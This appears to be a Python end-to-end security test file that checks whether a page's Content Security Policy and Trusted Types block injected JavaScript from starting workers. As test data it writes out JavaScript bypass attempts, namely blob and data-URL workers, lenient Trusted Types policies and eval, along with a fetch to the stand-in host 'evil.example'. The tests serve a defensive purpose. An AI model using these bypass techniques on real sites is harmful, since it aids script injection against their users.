"""An attacker who runs JavaScript in a page with a worker starts workers of their own."""

from tests.e2e.entries import in_worker
from tests.e2e.person import Person
from tests.security.page.payloads import OWNED

# In timers, because what a driver evaluates by itself is not held to the page's policy.
WAYS = """async (owned) => {
  const code = `document.title = "${owned}"`;
  const blob = () => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const lenient = { createScriptURL: (address) => address };
  const own = (name) => trustedTypes.createPolicy(name, lenient);
  const script = document.querySelector("script[src$='/workers.js']");
  const ownWorker = script.src.replace("workers.js", "worker.js");
  const ways = {
    text: () => new Worker(ownWorker, { type: "module" }),
    file: () => new Worker("/static/boot.js", { type: "module" }),
    blob: () => new Worker(blob()),
    data: () => new Worker(`data:text/javascript,${code}`),
    shared: () => new SharedWorker("/static/boot.js"),
    sameName: () => new Worker(own("worker").createScriptURL(blob())),
    otherName: () => new Worker(own("other").createScriptURL("/static/boot.js")),
    defaultName: () => new Worker((own("default"), "/static/boot.js")),
    sink: () => { document.createElement("script").src = ownWorker; },
  };
  const outcomes = {};
  for (const [name, way] of Object.entries(ways))
    outcomes[name] = await new Promise((tell) =>
      setTimeout(async () => {
        try { await way(); tell("started"); } catch (error) { tell(error.name); }
      }, 0));
  return outcomes;
}"""
IN_THE_WORKER = """async () => {
  const outcomes = {};
  const ways = {
    eval: () => eval("1"),
    Function: () => new Function("1")(),
    imported: () => import("data:text/javascript,1"),
    foreign: () => fetch("https://evil.example/"),
    worker: () => new Worker("boot.js"),
  };
  for (const [name, way] of Object.entries(ways))
    outcomes[name] = await new Promise((tell) =>
      setTimeout(async () => {
        try { await way(); tell("done"); } catch (error) { tell(error.name); }
      }, 0));
  return outcomes;
}"""


@in_worker("mpy-worker")
def test_the_policy_lets_no_other_worker_through(person: Person) -> None:
    """The page's own policy is not reachable, and a second one cannot be made."""
    person.watch.expect_violations(
        "require-trusted-types-for",
        "trusted-types",
        "worker-src",
        said=("Content Security Policy", "Trusted", "Refused to", "violates"),
    )
    person.open()
    outcomes = person.page.evaluate(WAYS, OWNED)
    assert set(outcomes.values()) == {"TypeError"}, outcomes
    assert person.page.title() != OWNED


@in_worker("mpy-worker")
def test_the_worker_has_the_pages_policy(person: Person) -> None:
    """A worker's policy is that of its own script's response."""
    person.signs_in()
    [worker] = person.page.workers
    assert worker.evaluate(IN_THE_WORKER) == {
        "eval": "EvalError",
        "Function": "EvalError",
        "imported": "TypeError",
        "foreign": "TypeError",
        "worker": "TypeError",
    }


@in_worker("mpy-worker")
def test_the_port_is_not_left_where_scripts_look(person: Person) -> None:
    """Neither the page nor the worker has it as a global name."""
    person.signs_in()
    [worker] = person.page.workers
    assert worker.evaluate("typeof cognitoOwnerPort") == "undefined"
    assert person.page.evaluate("Object.keys(cognitoPorts)") == ["push"]
